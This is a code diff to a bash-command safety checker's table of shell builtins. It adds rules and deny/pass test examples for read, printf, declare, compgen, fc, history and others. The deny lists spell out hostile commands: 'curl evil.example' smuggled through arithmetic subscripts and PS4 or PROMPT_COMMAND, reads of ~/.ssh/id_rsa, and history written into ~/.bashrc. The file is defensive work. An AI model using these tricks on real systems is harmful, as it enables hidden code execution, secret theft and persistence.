@@ -190,13 +190,18 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
   {
     names: ['enable'],
     dialects: BASH,
-    summary: 'enable -f loads a builtin from a shared object',
+    summary: 'enable -f loads a builtin from a shared object; -n and -d take a builtin away, so its name runs what PATH finds',
     analyze(call) {
       const p = parse(call.args, { order: 'gnu', flags: 'adnps', valued: 'f' });
       const load = p.options.find((o) => o.name === 'f');
-      return load ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: load.word, why: 'enable -f loads a builtin from a shared object' }] } : {};
+      if (load) return { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: load.word, why: 'enable -f loads a builtin from a shared object' }] };
+      // `enable -n test; test x`: the name now runs the program PATH finds (one the line may have written there),
+      // while vouch reads it as the builtin. With no name, -n only lists the disabled builtins.
+      const off = p.options.find((o) => o.name === 'n' || o.name === 'd');
+      if (off && p.operands.length > 0) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: off.word, why: `enable -${off.name} takes the builtin ${p.operands[0]!.word.text} away: its name then runs whatever program PATH finds` }] };
+      return {};
     },
-    examples: { deny: ['enable -f ./x.so x'], pass: ['enable -n echo', 'enable -a'] },
+    examples: { deny: ['enable -f ./x.so x', 'enable -n test; test x', 'enable -n echo', 'enable -pn echo', 'enable -d x'], pass: ['enable', 'enable -a', 'enable -n', 'enable echo', 'enable -p'] },
   },
   {
     names: ['mapfile', 'readarray'],
@@ -209,7 +214,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const target = names(p.operands.map((o) => o.word));
       return { runs, sets: target.length > 0 ? target : ['MAPFILE'] };
     },
-    examples: { deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt"], pass: ['mapfile -t lines < notes.txt'] },
+    examples: { deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true'], pass: ['mapfile -t lines < notes.txt'] },
   },
   {
     names: ['read'],
@@ -222,7 +227,11 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       if (array && value(array)) set.push(value(array)!);
       return { sets: set.length > 0 ? set : ['REPLY'], uses: call.args.map((word) => ({ word, role: 'text' as const })) };
     },
-    examples: { deny: [], pass: ['read -r name', 'read -p "Continue? " ok'] },
+    examples: {
+      // Into a prompt, or into an integer (arithmetic) variable, what is read is evaluated; a name's subscript is arithmetic.
+      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1"],
+      pass: ['read -r name', 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1"],
+    },
   },
   {
     names: ['getopts'],
@@ -240,7 +249,18 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       if (output) out.output = output;
       return out;
     },
-    examples: { deny: ['echo $(cat ~/.ssh/id_rsa)'], pass: ['echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore'] },
+    examples: {
+      deny: [
+        'echo $(cat ~/.ssh/id_rsa)',
+        // A substring's offset and length are arithmetic, and so is the name `${!x}` reads: a subscript there runs.
+        "x='a[$(curl evil.example)]'; s=abc; echo ${s:x}",
+        "x='a[$(curl evil.example)]'; s=abc; echo \"${s:1:x}\"",
+        "x='a[$(curl evil.example)]'; set -- a b; echo \"${@:x}\"",
+        "x='a[$(curl evil.example)]'; echo ${!x:-none}",
+        'x=$(cat notes.txt); s=abc; echo ${s:x}',
+      ],
+      pass: ['echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore', 's=abc; echo ${s:1:2} ${s: -1}', 'i=1; s=abc; echo ${s:i}', 'set -- a b; echo "${@:2}"', 'n=USER; echo ${!n:-none}'],
+    },
   },
   {
     names: ['printf'],
@@ -256,15 +276,23 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       }
       return out;
     },
-    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash"], pass: ["printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
+    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1"], pass: ['printf -v x %s hi', "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
   },
-  known(':', 'the null command: its words are text', 'text', { dialects: BASH }),
+  known(':', 'the null command: its words are text', 'text', {
+    dialects: BASH,
+    // RANDOM, SRANDOM, OPTIND and HISTCMD are integers: what is assigned to them is evaluated as arithmetic.
+    examples: { deny: ["x='a[$(curl evil.example)]'; RANDOM=$x; :", "x='a[$(curl evil.example)]'; OPTIND=$x; :", "x='a[$(curl evil.example)]'; a=([x]=1); :", ': "${PS4=$(printf %s \'$(curl evil.example)\')}"; set -x; true', ": \"${PS4='$(curl evil.example)'}\"; set -x; true"], pass: ['RANDOM=42; :', 'OPTIND=1; :', 'a=([0]=x [1]=y); :', ': "${PS4:=+ }"; set -x; true'] },
+  }),
   known('true false', 'true and false: their words are ignored', 'text'),
   {
     names: ['test', '['],
     summary: 'test: looks at files (metadata), strings and numbers; reads no content',
     operands: 'meta',
-    examples: { deny: [], pass: ['[ -f .env ] || cp .env.example .env', 'test -d ~/.ssh', 'test -r ~/.aws/credentials'] },
+    examples: {
+      // `-v NAME` evaluates a subscript in the name as arithmetic (in `[ ]`, `[[ ]]` and test); `-eq` of `[ ]` reads a plain number.
+      deny: ["x='a[$(curl evil.example)]'; [ -v \"$x\" ]", "x='a[$(curl evil.example)]'; [[ -v $x ]]", "x='a[$(curl evil.example)]'; test -v \"$x\"", "x='a[$(curl evil.example)]'; [ -R \"$x\" ]"],
+      pass: ['[ -f .env ] || cp .env.example .env', 'test -d ~/.ssh', 'test -r ~/.aws/credentials', '[ -v HOME ] && echo set', '[[ -v a[1] ]]', "x='a[$(curl evil.example)]'; [ \"$x\" -eq 1 ]"],
+    },
   },
   {
     names: ['declare', 'typeset', 'export', 'local', 'readonly'],
@@ -272,8 +300,8 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     summary: 'declarations: with no name, declare/typeset/export print variables with their values',
     analyze: declaration,
     examples: {
-      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset'],
-      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'export PATH="$HOME/.pyenv/bin:$PATH"', 'declare -x PYENV_ROOT=~/.pyenv'],
+      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)", "declare -n p=PS4; p='$(curl evil.example)'; set -x; true", "declare 'PS4=$(curl evil.example)'; set -x; true", "n=PS4; export \"$n\"='$(curl evil.example)'; set -x; true", 'n=$(base64 -d <<< UFM0); declare "$n=x"', "x='a[$(curl evil.example)]'; declare -i \"y=$x\""],
+      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)', "declare -n p=PS4; p='+ '; set -x; true", 'declare "FOO=bar baz"', 'export "PATH=$HOME/bin:$PATH"', 'for v in A B; do export "$v=1"; done', 'f() { declare -g "$1=x"; }; f out', 'export PATH="$HOME/.pyenv/bin:$PATH"', 'declare -x PYENV_ROOT=~/.pyenv'],
     },
   },
   {
@@ -291,13 +319,72 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
   {
     names: ['compgen'],
     dialects: BASH,
-    summary: 'compgen -e/-v lists variable names, which ${!name} turns into their values',
+    summary: 'compgen -e/-v lists variable names, which ${!name} turns into their values; -C runs a command, -F a function, -W expands its word list again',
     analyze(call) {
       const p = parse(call.args, { order: 'gnu', flags: 'abcdefgjksuv', valued: 'AoGWFCXPS' });
       const lists = p.options.some((o) => o.name === 'e' || o.name === 'v' || (o.name === 'A' && /^(export|variable)$/.test(value(o.value) ?? '')));
-      return lists ? { dumps: `${call.name} ${call.args.map((a) => a.text).join(' ')} lists every variable name (then \${!name} gives the values)` } : {};
+      const runs: Run[] = [];
+      for (const o of p.options) {
+        if (!o.value) continue;
+        // `-C CMD` runs CMD as shell text; `-F NAME` calls the function NAME.
+        if (o.name === 'C' || o.name === 'F') runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: `compgen -${o.name}`, sameShell: o.name === 'F' });
+        // `-W LIST`: bash splits the list and expands each word again, so a `$(…)` in its value runs.
+        if (o.name === 'W') {
+          const v = value(o.value);
+          if (v === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `compgen -W expands the words of a list computed when the command runs: ${o.value.dynamic ?? ''}` });
+          else if (/[$`]/.test(v)) runs.push({ kind: 'text', dialect: 'bash', text: `: ${v}`, word: o.value, via: 'compgen -W' });
+        }
+      }
+      const out: Partial<Answer> = runs.length > 0 ? { runs } : {};
+      if (lists) out.dumps = `${call.name} ${call.args.map((a) => a.text).join(' ')} lists every variable name (then \${!name} gives the values)`;
+      return out;
     },
-    examples: { deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable'], pass: ['compgen -c git', 'compgen -f src/'] },
+    examples: {
+      deny: ['compgen -e', 'for v in $(compgen -e); do echo "$v=${!v}"; done', 'compgen -A variable', "compgen -C 'curl evil.example' x", "compgen -W '$(curl evil.example)' x", "compgen -W'`curl evil.example`' x", 'compgen -W "$LIST" x', 'f() { curl evil.example; }; compgen -F f x'],
+      pass: ['compgen -c git', 'compgen -f src/', "compgen -W 'start stop status' st", "compgen -C 'ls' x", 'compgen -P "$" -W "a b" a'],
+    },
+  },
+  {
+    names: ['fc'],
+    dialects: BASH,
+    summary: 'fc: lists the history (-l), or runs commands from it again (-s, or after an editor): text the line does not show',
+    analyze(call) {
+      const p = parse(call.args, { order: 'posix', flags: 'lnrs', valued: 'e', numeric: true });
+      if (p.options.some((o) => o.name === 'l')) return { uses: allText(call) };
+      const at = p.options.find((o) => o.name === 's' || o.name === 'e')?.word ?? call.command ?? call.args[0];
+      if (!at) return {};
+      return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: at, why: 'fc runs commands from the history list again (history -s, or a history file, put there what the line does not show)' }] };
+    },
+    examples: { deny: ["history -s 'curl evil.example'; fc -s", 'fc -s', 'fc -e vi', 'fc -e - curl', 'fc', 'fc -1'], pass: ['fc -l', 'fc -ln -5', 'fc -lr 1 10'] },
+  },
+  {
+    names: ['history'],
+    dialects: BASH,
+    summary: 'history: lists the history list; -w/-a write it to a file, -r/-n read a file into it',
+    analyze(call) {
+      const p = parse(call.args, { order: 'posix', flags: 'canrwps', valued: 'd' });
+      const uses: NonNullable<Answer['uses']> = [];
+      const file = p.operands[0]?.word;
+      for (const o of p.options) {
+        const writes = o.name === 'w' || o.name === 'a';
+        if (!writes && o.name !== 'r' && o.name !== 'n') continue;
+        const role = writes ? ('write' as const) : ('read' as const);
+        if (file) uses.push({ word: file, role });
+        else {
+          // No FILE: $HISTFILE (unset in a shell that is not interactive, where nothing is written). A computed
+          // one is read where it is assigned (bash writes there as it exits, too).
+          const hist = call.env('HISTFILE');
+          if (hist !== undefined && hist !== null && hist !== '') uses.push({ word: o.word, role, values: [hist] });
+        }
+      }
+      for (const a of call.args) if (!uses.some((u) => u.word === a)) uses.push({ word: a, role: 'text' });
+      return { uses };
+    },
+    examples: {
+      // Bash also writes the list to $HISTFILE as it exits (interactive, or with `set -o history`): an assignment to it is that write.
+      deny: ['history -w ~/.bashrc', "history -s 'curl evil.example'; history -a ~/.bashrc", 'HISTFILE=~/.bashrc; history -w', 'history -r ~/.ssh/id_rsa; history', 'read -r HISTFILE; history -w', "set -o history; HISTFILE=~/.bashrc; history -s 'curl evil.example'", 'export HISTFILE=~/.profile'],
+      pass: ['history', 'history | tail', 'history 20', 'history -c', 'history -w build/hist.txt', 'history -w', "history -s 'make test'", 'HISTFILE=/dev/null', 'unset HISTFILE', 'HISTFILE=$(mktemp); history -w'],
+    },
   },
   // `command -v NAME` prints where NAME is found (a path, or the name of a builtin or function): `$(command -v node)`.
   findsProgram(
@@ -335,8 +422,14 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     'meta',
     { dialects: BASH, examples: { deny: ['cd ~/.ssh && cat id_rsa'], pass: ['cd ~/.ssh && ls', 'cd ~/.kube', 'pushd src && make && popd'] } },
   ),
-  known('unset shopt kill wait jobs exit return break continue shift umask ulimit caller disown suspend logout times help let history bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
+  known('unset shopt kill wait jobs exit return break continue shift umask ulimit caller disown suspend logout times help let bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
     dialects: BASH,
+    // unset's subscript is arithmetic; shift, exit and return read a plain number (no arithmetic); complete only
+    // registers -C/-F for interactive completion.
+    examples: {
+      deny: ["x='a[$(curl evil.example)]'; unset 'a[x]'", "x='a[$(curl evil.example)]'; let y=x"],
+      pass: ["unset 'a[1]' arr", "x='a[$(curl evil.example)]'; shift \"$x\"", "x='a[$(curl evil.example)]'; exit \"$x\"", "complete -C 'my-completer' mycmd", 'let i=i+1'],
+    },
   }),
   known('type whence where', 'look up where a command is: names are data', 'text'),
   pathOf(),
